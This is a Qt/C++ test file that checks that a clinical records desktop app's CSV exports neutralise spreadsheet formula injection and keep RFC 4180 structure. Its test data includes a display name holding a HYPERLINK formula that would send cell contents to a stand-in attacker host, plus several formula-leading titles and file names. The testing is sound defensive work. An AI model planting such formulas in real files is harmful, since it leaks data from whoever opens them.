// C12: CSV saved by the desktop app is safe to open in a spreadsheet. Names that start like a
// formula ('=', '+', '-', '@', also after TAB, CR or spaces) reach the saved file with one "'"
// in front, and commas, quotes and line breaks keep the row and column counts right. The lists
// in the app keep the raw values. Runs the Audit page's and the access history's view models
// against a real server.
//
// NOTE: no spreadsheet application is installed where the tests run, so the file is checked
// by an RFC 4180 parser and the neutralising rule instead of by opening it in LibreOffice Calc.

#include "UiTestEnvironment.h"
#include "client/ClientTestSupport.h"
#include "server/CurlClient.h"
#include "support/TestSupport.h"
#include "ui/AccessHistory.h"
#include "ui/AuditViewModel.h"
#include "ui/SessionController.h"

#include <QDir>
#include <QGuiApplication>
#include <QSignalSpy>
#include <QTest>
#include <QUrl>

using chartinsight::test::CurlClient;
using chartinsight::test::ServerProcess;
using chartinsight::test::UiTestEnvironment;
using chartinsight::test::waitForTask;
using chartinsight::ui::AccessHistory;
using chartinsight::ui::AuditEntryModel;
using chartinsight::ui::AuditViewModel;
using chartinsight::ui::SessionController;

namespace {

const QString kPassword = QStringLiteral("Correct-Horse-Battery-Staple-42");
const QString kAdmin = QStringLiteral("admin@clinic.test");
const QString kOlivia = QStringLiteral("olivia@example.test");
const QString kLiam = QStringLiteral("liam@example.test");
const QString kLiamName =
    QStringLiteral("=HYPERLINK(\"https://attacker.example.test/?d=\"&A2,\"Details\")");
constexpr int kTimeoutMs = 60000;
constexpr int kColumns = 13;

// Titles set on Olivia's records. The server trims titles, so the ones with a TAB or CR in
// front are stored as "=1+1".
const QStringList kTitles = {
    QStringLiteral("=1+1"),      QStringLiteral("+1+1"),        QStringLiteral("-1+1"),
    QStringLiteral("@SUM(1,1)"), QStringLiteral("\t=1+1"),      QStringLiteral("\r=1+1"),
    QStringLiteral("Smith, \"Jo\""), QStringLiteral("Notes, \"2nd\" visit, 3 pages"),
};
// Records without a title: the report names them by their file name.
const QStringList kFileNames = {
    QStringLiteral("=1+1.txt"),
    QStringLiteral("-2+3.txt"),
    QStringLiteral("@SUM(1,1).txt"),
    QStringLiteral("+cmd.txt"),
};

// Returns what a spreadsheet-safe CSV cell contains for `text`: "'" in front when the text,
// after leading spaces, starts with a character that makes a spreadsheet read a formula.
QString expectedCell(const QString& text)
{
    for (const QChar character : text) {
        if (character == QLatin1Char(' '))
            continue;
        if (QStringLiteral("=+-@\t\r\n").contains(character))
            return QLatin1Char('\'') + text;
        break;
    }
    return text;
}

// Whether a spreadsheet could take `cell` as a formula.
bool looksLikeFormula(const QString& cell)
{
    return expectedCell(cell) != cell;
}

// Parses RFC 4180 CSV strictly: records end with CRLF, a field is quoted or contains no quote,
// CR or LF, and quotes inside a quoted field are doubled. Returns no records on any violation.
QList<QStringList> parseCsv(const QByteArray& bytes, QString* problem)
{
    const QString text = QString::fromUtf8(bytes);
    QList<QStringList> records;
    QStringList record;
    QString field;
    qsizetype i = 0;
    const auto fail = [&](const QString& why) {
        *problem = QStringLiteral("%1 at character %2").arg(why).arg(i);
        return QList<QStringList>();
    };
    while (i < text.size()) {
        field.clear();
        if (text.at(i) == QLatin1Char('"')) {
            ++i;
            while (true) {
                if (i >= text.size())
                    return fail(QStringLiteral("unterminated quoted field"));
                if (text.at(i) == QLatin1Char('"')) {
                    if (i + 1 < text.size() && text.at(i + 1) == QLatin1Char('"')) {
                        field += QLatin1Char('"');
                        i += 2;
                        continue;
                    }
                    ++i;
                    break;
                }
                field += text.at(i++);
            }
        } else {
            while (i < text.size() && text.at(i) != QLatin1Char(',') &&
                   text.at(i) != QLatin1Char('\r')) {
                if (text.at(i) == QLatin1Char('"') || text.at(i) == QLatin1Char('\n'))
                    return fail(QStringLiteral("quote or line feed in an unquoted field"));
                field += text.at(i++);
            }
        }
        record.append(field);
        if (i < text.size() && text.at(i) == QLatin1Char(',')) {
            ++i;
            continue;
        }
        if (text.mid(i, 2) != QLatin1String("\r\n"))
            return fail(QStringLiteral("record not ended by CRLF"));
        i += 2;
        records.append(record);
        record.clear();
    }
    if (!record.isEmpty())
        return fail(QStringLiteral("last record not ended by CRLF"));
    return records;
}

} // namespace

class TestC12DesktopCsvExport : public QObject
{
    Q_OBJECT

public:
    explicit TestC12DesktopCsvExport(const UiTestEnvironment& environment)
        : m_environment(environment)
    {
    }

private slots:
    void initTestCase();
    void activityExportIsSafe();
    void accessExportIsSafe();
    void listsKeepRawValues();
    void cleanupTestCase();

private:
    std::unique_ptr<SessionController> signIn(const QString& email) const;
    // Saves the report of `model` through the desktop's export into `name` and returns the
    // file's bytes.
    QByteArray exportThroughDesktop(AuditEntryModel& model, const QString& name);
    // Checks a saved CSV against the rows of `model` (loaded with every entry): one record per
    // row after the header, kColumns fields each, every text cell the raw value neutralised.
    void checkCsv(const QByteArray& csv, const AuditEntryModel& model);

    const UiTestEnvironment& m_environment;
    ServerProcess m_server;
    std::unique_ptr<SessionController> m_admin;
    std::unique_ptr<SessionController> m_olivia;
    QStringList m_records;
};

void TestC12DesktopCsvExport::initTestCase()
{
    if (!UiTestEnvironment::hasSessionBus())
        QSKIP("signing in needs the keychain: run through tests/support/with-keychain.sh");
    QVERIFY2(m_server.start(), "the test server did not start");
    QCOMPARE(m_server.addUser(kAdmin, kPassword, true), 0);
    QCOMPARE(m_server.addUser(kOlivia, kPassword), 0);
    QCOMPARE(m_server.addUser(kLiam, kPassword), 0);
    m_admin = signIn(kAdmin);
    QVERIFY2(m_admin->isSignedIn(), qPrintable(m_admin->errorString()));
    m_olivia = signIn(kOlivia);
    QVERIFY2(m_olivia->isSignedIn(), qPrintable(m_olivia->errorString()));
    auto liam = signIn(kLiam);
    QVERIFY2(liam->isSignedIn(), qPrintable(liam->errorString()));

    const auto named = waitForTask(liam->session()->setDisplayName(kLiamName));
    QVERIFY2(named.ok, qPrintable(named.error.message));

    // Olivia's records, shared with General, which Liam is in.
    const auto upload = [this](const QString& name) {
        const QString path = chartinsight::test::writeFile(m_environment.workDir(), name,
                                                           QByteArrayLiteral("chart notes\n"));
        chartinsight::client::UploadOptions options;
        options.sharing = QStringLiteral("team");
        const auto outcome = waitForTask(m_olivia->session()->upload(path, options));
        if (!outcome.ok)
            qWarning() << "upload failed:" << outcome.error.code << outcome.error.message;
        return outcome.result.toObject().value(QStringLiteral("id")).toString();
    };
    for (int i = 0; i < kTitles.size(); ++i) {
        const QString id = upload(QStringLiteral("c12-%1.txt").arg(i));
        QVERIFY(!id.isEmpty());
        const auto titled = waitForTask(m_olivia->session()->setRecordTitle(id, kTitles.at(i)));
        QVERIFY2(titled.ok, qPrintable(titled.error.message));
        m_records.append(id);
    }
    for (const QString& name : kFileNames) {
        const QString id = upload(name);
        QVERIFY(!id.isEmpty());
        m_records.append(id);
    }

    // Liam opens each record in the viewer.
    for (const QString& id : std::as_const(m_records)) {
        const auto viewed = waitForTask(liam->session()->fetchForViewer(id));
        QVERIFY2(viewed.ok, qPrintable(viewed.error.message));
    }
}

void TestC12DesktopCsvExport::cleanupTestCase()
{
    m_olivia.reset();
    m_admin.reset();
}

std::unique_ptr<SessionController> TestC12DesktopCsvExport::signIn(const QString& email) const
{
    auto controller = std::make_unique<SessionController>();
    controller->setServerUrl(m_server.url().toString());
    controller->setProfileDir(QDir(m_environment.workDir()).filePath(email));
    controller->setSignatureDir(chartinsight::test::testSignatureDir());
    controller->setCaFile(m_server.caFile());
    controller->signIn(m_server.url().toString(), email, kPassword);
    [&] { QTRY_VERIFY_WITH_TIMEOUT(!controller->isBusy(), kTimeoutMs); }();
    return controller;
}

QByteArray TestC12DesktopCsvExport::exportThroughDesktop(AuditEntryModel& model,
                                                         const QString& name)
{
    const QString path = QDir(m_environment.workDir()).filePath(name);
    QSignalSpy exported(&model, &AuditEntryModel::exported);
    model.exportCsv(QUrl::fromLocalFile(path));
    [&] {
        QTRY_VERIFY_WITH_TIMEOUT(!model.isExporting(), kTimeoutMs);
        QVERIFY2(model.errorString().isEmpty(), qPrintable(model.errorString()));
        QCOMPARE(exported.size(), 1);
    }();
    return chartinsight::test::readFile(path);
}

void TestC12DesktopCsvExport::checkCsv(const QByteArray& csv, const AuditEntryModel& model)
{
    QString problem;
    const QList<QStringList> records = parseCsv(csv, &problem);
    QVERIFY2(problem.isEmpty(), qPrintable(problem));
    QCOMPARE(records.size(), model.rowCount() + 1);
    const QStringList header = records.constFirst();
    QCOMPARE(header.size(), kColumns);
    for (const QStringList& record : records)
        QCOMPARE(record.size(), kColumns);

    for (int row = 0; row < model.rowCount(); ++row) {
        const QVariantMap entry = model.entryAt(row);
        const QStringList& record = records.at(row + 1);
        for (int column = 0; column < kColumns; ++column) {
            const QString cell = record.at(column);
            QVERIFY2(!looksLikeFormula(cell),
                     qPrintable(QStringLiteral("row %1, %2: %3")
                                    .arg(row)
                                    .arg(header.at(column), cell)));
            const QString name = header.at(column);
            if (name == QLatin1String("sequence") || name == QLatin1String("time") ||
                name == QLatin1String("details")) {
                continue;
            }
            // Every other text cell is the JSON value with at most one "'" in front.
            const QString raw = entry.value(name).toString();
            QCOMPARE(cell, expectedCell(raw));
        }
        QCOMPARE(record.at(0), entry.value(QStringLiteral("sequence")).toString());
    }
}

void TestC12DesktopCsvExport::activityExportIsSafe()
{
    AuditViewModel audit;
    audit.setController(m_admin.get());
    audit.setAction(QStringLiteral("record."));
    audit.setPageSize(AuditEntryModel::kMaxPageSize);
    audit.refresh();
    QTRY_VERIFY_WITH_TIMEOUT(!audit.isBusy(), kTimeoutMs);
    QVERIFY2(audit.errorString().isEmpty(), qPrintable(audit.errorString()));
    // Uploads, title changes and Liam's views.
    QVERIFY(audit.count() >= 2 * m_records.size() + kTitles.size());
    QVERIFY(!audit.hasMore());

    const QByteArray csv = exportThroughDesktop(audit, QStringLiteral("c12-activity.csv"));
    checkCsv(csv, audit);

    // The neutralised cells are there: Liam's name and the titles, each with one "'".
    const QString text = QString::fromUtf8(csv);
    QVERIFY(text.contains(QStringLiteral("\"'=HYPERLINK(\"\"https://attacker.example.test/")));
    QVERIFY(!text.contains(QStringLiteral("\"''")));
    for (const QString& cell : {QStringLiteral("\"'=1+1\""), QStringLiteral("\"'+1+1\""),
                                QStringLiteral("\"'-1+1\""), QStringLiteral("\"'@SUM(1,1)\""),
                                QStringLiteral("\"'=1+1.txt\""), QStringLiteral("\"'-2+3.txt\""),
                                QStringLiteral("\"'@SUM(1,1).txt\""),
                                QStringLiteral("\"'+cmd.txt\""),
                                QStringLiteral("\"Smith, \"\"Jo\"\"\"")}) {
        QVERIFY2(text.contains(cell), qPrintable(cell));
    }

    // The desktop saved what the API sends, byte for byte.
    CurlClient curl(m_server);
    const QString token = curl.login(kAdmin, kPassword);
    QVERIFY(!token.isEmpty());
    const auto response = curl.request(
        QStringLiteral("GET"), QStringLiteral("/api/v1/reports/activity?action=record.&format=csv"),
        {}, token);
    QCOMPARE(response.status, 200);
    QCOMPARE(csv, response.body);
}

void TestC12DesktopCsvExport::accessExportIsSafe()
{
    // Olivia, the uploader, exports who opened each record from its access history.
    AccessHistory history;
    history.setController(m_olivia.get());
    for (int i = 0; i < m_records.size(); ++i) {
        history.open(m_records.at(i), QStringLiteral("record %1").arg(i));
        QTRY_VERIFY_WITH_TIMEOUT(!history.isBusy() && history.isLoaded(), kTimeoutMs);
        QVERIFY2(history.errorString().isEmpty(), qPrintable(history.errorString()));
        QCOMPARE(history.count(), 1);
        QCOMPARE(history.entryAt(0).value(QStringLiteral("actor_name")).toString(), kLiamName);

        const QByteArray csv =
            exportThroughDesktop(history, QStringLiteral("c12-access-%1.csv").arg(i));
        checkCsv(csv, history);
    }
}

void TestC12DesktopCsvExport::listsKeepRawValues()
{
    AuditViewModel audit;
    audit.setController(m_admin.get());
    audit.setAction(QStringLiteral("record.viewed"));
    audit.setPageSize(AuditEntryModel::kMaxPageSize);
    audit.refresh();
    QTRY_VERIFY_WITH_TIMEOUT(!audit.isBusy(), kTimeoutMs);
    QCOMPARE(audit.count(), m_records.size());
    QStringList targets;
    for (int row = 0; row < audit.count(); ++row) {
        QCOMPARE(audit.data(audit.index(row), AuditEntryModel::ActorNameRole).toString(),
                 kLiamName);
        targets.append(audit.data(audit.index(row), AuditEntryModel::TargetNameRole).toString());
    }
    for (const QString& title : kTitles)
        QVERIFY2(targets.contains(title.trimmed()), qPrintable(title));
    for (const QString& name : kFileNames)
        QVERIFY2(targets.contains(name), qPrintable(name));
}

int main(int argc, char* argv[])
{
    const UiTestEnvironment environment;
    QGuiApplication application(argc, argv);
    TestC12DesktopCsvExport test(environment);
    return QTest::qExec(&test, argc, argv);
}

#include "TestC12DesktopCsvExport.moc"
